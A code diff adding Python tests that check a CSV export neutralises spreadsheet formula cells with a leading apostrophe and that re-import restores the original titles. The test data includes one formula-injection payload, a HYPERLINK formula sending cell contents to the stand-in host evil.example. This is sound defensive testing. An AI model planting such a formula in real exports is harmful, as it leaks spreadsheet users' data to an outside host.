@@ -135,3 +135,43 @@ def test_exported_csv_reads_back_through_import_items_unchanged(world):
     assert result.rows == 4
     assert result.items_changed == []
     assert result.status_updates == 0
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tTabbed title",
+    "\rCarriage title",
+    "'Quoted' from the start",
+    "''Two apostrophes",
+]
+
+
+def test_csv_export_neutralises_formula_cells_and_imports_them_back_unchanged():
+    document = factories.DocumentFactory()
+    items = [factories.ItemFactory(document=document, title=title) for title in FORMULA_TITLES]
+    items[2].text = "- a bullet that starts with a dash"
+    items[2].save()
+    response = APIClient().get("/api/v1/items/export.csv", {"ordering": "id"})
+    rows = read_csv(response)
+    # Every cell a spreadsheet would evaluate starts with an apostrophe (OWASP), and so does a real
+    # leading apostrophe, so the import can tell them apart.
+    assert [row["title"] for row in rows] == ["'" + title for title in FORMULA_TITLES]
+    assert rows[2]["text"] == "'- a bullet that starts with a dash"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    text = b"".join(APIClient().get("/api/v1/items/export.csv", {"ordering": "id"}).streaming_content).decode()
+    result = import_items_csv(io.StringIO(text))
+    assert result.items_changed == []  # the text column is read-only: it compared equal after restoring
+    assert [item.title for item in Item.objects.order_by("id")] == FORMULA_TITLES
+
+
+def test_import_restores_a_neutralised_title_edited_in_a_spreadsheet():
+    item = factories.ItemFactory(title="Plain title")
+    text = b"".join(APIClient().get("/api/v1/items/export.csv").streaming_content).decode()
+    edited = text.replace("Plain title", "'=1+1 is a formula in a title")
+    result = import_items_csv(io.StringIO(edited))
+    assert result.items_changed == [item.reference]
+    item.refresh_from_db()
+    assert item.title == "=1+1 is a formula in a title"
